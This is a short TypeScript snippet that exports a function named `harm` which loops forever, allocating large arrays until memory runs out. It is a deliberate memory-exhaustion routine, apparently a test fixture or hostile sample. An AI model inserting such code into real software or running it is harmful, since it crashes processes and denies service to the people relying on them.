const held: number[][] = [];
export function harm(): never {
  for (;;) held.push(new Array<number>(1e5).fill(held.length));
}
